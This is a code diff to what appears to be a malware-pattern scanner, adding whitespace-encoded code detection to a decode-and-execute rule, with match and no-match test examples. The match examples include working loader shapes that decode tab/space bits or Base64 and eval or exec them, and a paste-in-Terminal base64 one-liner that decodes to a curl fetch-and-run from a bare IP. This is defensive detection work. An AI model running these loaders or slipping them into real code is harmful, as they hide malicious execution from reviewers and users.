@@ -11,6 +11,7 @@ import { homoglyphMatches } from './obfuscation/homoglyphs.ts';
 import { hiddenMarkupMatches, htmlCommentMatches } from './obfuscation/hidden-markup.ts';
 import { paddingMatches } from './obfuscation/padding.ts';
 import { DECODE_EXEC_ANCHORS, decodeExecMatches } from './obfuscation/decode-exec.ts';
+import { WHITESPACE_CODE_ANCHORS, whitespaceCodeMatches } from './obfuscation/whitespace-code.ts';
 import { blobMatches } from './obfuscation/encoded-blobs.ts';
 import { obfuscatorMatches } from './obfuscation/obfuscator-output.ts';
 import { splitCommandMatches } from './obfuscation/split-commands.ts';
@@ -168,10 +169,12 @@ export const rules: Rule[] = [
     why: 'Decoding Base64, hex or compressed data and running it hides the real command from readers and scanners; it is the standard shape of droppers.',
     fix: 'Ship the plain, readable command or code; never execute decoded data.',
     scopes: ALL_TEXT,
-    anchors: DECODE_EXEC_ANCHORS,
+    anchors: [...DECODE_EXEC_ANCHORS, ...WHITESPACE_CODE_ANCHORS],
     negatable: false,
     examples: {
       match: [
+        { path: 'scripts/fmt.pl', text: 'my $bits = join "", map { tr/ \\t/01/r } grep { /^[ \\t]+$/ } <DATA>;\neval pack("B*", $bits);\n__DATA__\n \t \t\t  \t\n' },
+        { path: 'scripts/load.py', text: 'bits = "".join("1" if c == "\\t" else "0" for line in open(__file__) for c in line.rstrip("\\n") if c in " \\t")\nexec(int(bits, 2).to_bytes(len(bits) // 8, "big").decode())\n' },
         "Paste this in Terminal: `echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzEuMi4zLjQvcCki' | base64 -D | bash`",
         { path: 'scripts/p.py', text: 'import base64\ndecoded = base64.b64decode(PAYLOAD)\nexec(decoded)\n' },
         { path: 'doctor.mk', text: "DOCTOR_SHELL := $(SHELL)\n$(shell printf '%s' '$(SUM_A)$(SUM_B)' | base64 -d | $(DOCTOR_SHELL))\n" },
@@ -182,6 +185,8 @@ export const rules: Rule[] = [
         { path: 'scripts/h.js', text: "function _r() { return _t.map((c) => String.fromCharCode(c ^ _k)).join(''); }\ntry { cp.execSync(_r(), { stdio: 'ignore' }); } catch (_) {}\n" },
       ],
       noMatch: [
+        { path: 'scripts/indent.py', text: 'line = line.replace("\\t", "    ")\nprint(line)\n' },
+        { path: 'scripts/table.sh', text: "tr '\\t' ',' < data.tsv > data.csv\n" },
         '| Pattern | Layer |\n|---|---|\n| `echo <blob> \\| base64 -d \\| sh` | base64 (shell) |\n| `exec(zlib.decompress(b64decode(...)))` | compression |\n',
         { path: 'scripts/jwt.sh', text: 'echo "$PAYLOAD" | base64 -d | python3 -m json.tool\necho "$X" | base64 --decode > out.bin\n' },
         { path: 'scripts/cfg.py', text: 'def load(b):\n    return json.loads(base64.b64decode(b))\n\ndef tag():\n    return "v1"\n\nsubprocess.run(["git", "tag", tag()])\nprint(load(RAW))\n' },
@@ -190,7 +195,7 @@ export const rules: Rule[] = [
         'The triage script prints each layer and the matched patterns (e.g. `eval(`, `Function(`, `IEX`, `/dev/tcp/`, `base64 -d | sh`).',
       ],
     },
-    detect: decodeExecMatches,
+    detect: (file) => [...decodeExecMatches(file), ...whitespaceCodeMatches(file)],
   },
   {
     id: 'OBF-09',
